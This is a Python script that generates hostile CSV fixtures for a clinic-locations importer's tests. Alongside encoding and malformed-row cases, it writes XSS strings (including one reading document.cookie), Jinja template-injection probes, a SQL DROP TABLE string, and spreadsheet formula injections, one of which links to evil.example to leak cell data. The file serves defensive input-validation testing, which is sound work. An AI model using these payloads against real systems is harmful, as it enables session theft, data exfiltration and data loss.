"""Write the small hostile locations files beside this script (large ones: at test time).

    python tests/data/hostile/generate.py

Each file is named for what it tries; tests/test_hostile.py says what must happen to it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = ["slug", "name", "street_address", "city", "state", "postal_code", "phone", "intro"]
GOOD = ["hostile-mo", "Hostile Clinic", "1 Main St", "Florissant", "MO", "63031", "314-555-0101",
        "A plain introduction."]  # fmt: skip

# Markup, script and template syntax aimed at HTML text, attributes, JSON-LD, XML and Jinja.
PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(document.cookie)</script>",
    "{{ 7*7 }} {{ config }} {% raw %}x{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "<!-- --><![CDATA[ ]]> & &amp; &#x3C;",
    "javascript:alert(1)",
    "' OR 1=1; DROP TABLE locations; --",
    "<svg/onload=alert(1)>",
]
# Line breaks and invisible controls: refused in one-line columns, kept in the intro paragraph.
INVISIBLE = ["\r", "\n", "\x85", "\u2028", "\u2029", "\u202e", "\u2067", "\u200b", "\ufeff"]
ONE_LINE_TEXT = ("name", "street_address", "city")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def text(rows, delimiter=",", lineterminator="\r\n") -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
    writer.writerows(rows)
    return out.getvalue()


def markup_rows() -> list[list[str]]:
    """A payload in every free-text column (name, street_address, city, intro)."""
    rows = [HEADER]
    for n, payload in enumerate(PAYLOADS):
        rows.append([f"markup-{n}", f"Clinic {payload}", f"{n} Main St {payload}",
                     f"Town {payload}", "MO", "63031", "314-555-0101",
                     f"Intro {payload} end.\u2028\u2029 Second line."])  # fmt: skip
    return rows


def invisible_rows() -> list[list[str]]:
    """Each character in each one-line text column, one row apiece (rows 2, 3, ...)."""
    rows = [HEADER]
    for char in INVISIBLE:
        for column in ONE_LINE_TEXT:
            cells = dict(zip(HEADER, GOOD, strict=True))
            cells["slug"] = f"invisible-{len(rows)}"
            cells[column] = f"Before{char}after"
            rows.append(list(cells.values()))
    return rows


def files() -> dict[str, bytes]:
    good = text([HEADER, GOOD])
    return {
        "utf8-bom-crlf.csv": b"\xef\xbb\xbf" + good.replace("Florissant", "Española").encode(),
        "latin1.csv": good.replace("Florissant", "Española").encode("latin-1"),
        "utf16-bom.csv": good.encode("utf-16"),
        "utf16-no-bom.csv": good.encode("utf-16-le"),
        "cp1252-quotes.csv": good.replace("plain", "“curly”").encode("cp1252"),
        "semicolons.csv": text([HEADER, GOOD], delimiter=";").encode(),
        "ragged.csv": text([HEADER, GOOD, GOOD[:5], [*GOOD, "extra"]]).encode(),
        "unterminated-quote.csv": (text([HEADER]) + 'broken-mo,"Clinic,1 Main St\r\n').encode(),
        "nul-byte.csv": good.replace("Hostile", "Host\x00ile").encode(),
        "control-chars.csv": good.replace("Hostile", "Host\x07ile\x1b[31m").encode(),
        "header-only.csv": text([HEADER]).encode(),
        "empty.csv": b"",
        "markup-in-text-columns.csv": text(markup_rows()).encode(),
        "invisible-in-one-line-columns.csv": text(invisible_rows()).encode(),
        "markup-in-validated-columns.csv": text(
            [
                HEADER
                + [
                    "opening_hours",
                    "special_hours",
                    "services",
                    "status",
                    "redirect_to",
                    "latitude",
                    "longitude",
                ],
                [
                    "<b>x</b>",
                    "Clinic",
                    "1 Main St",
                    "Town",
                    "<MO>",
                    "<script>",
                    "{{ 7*7 }}",
                    "Intro.",
                    "<i>Mo</i>",
                    "{% x %}",
                    "<svg>",
                    "<p>",
                    "javascript:x",
                    "=1",
                    "{{ 1 }}",
                ],
            ]
        ).encode(),  # fmt: skip
        "formulas.csv": text(
            [HEADER]
            + [
                [f"formula-{n}", f, f, f[:100], "MO", "63031", "314-555-0101", f]
                for n, f in enumerate(FORMULAS)
            ]
        ).encode(),  # fmt: skip
    }


def main() -> None:
    for name, data in files().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
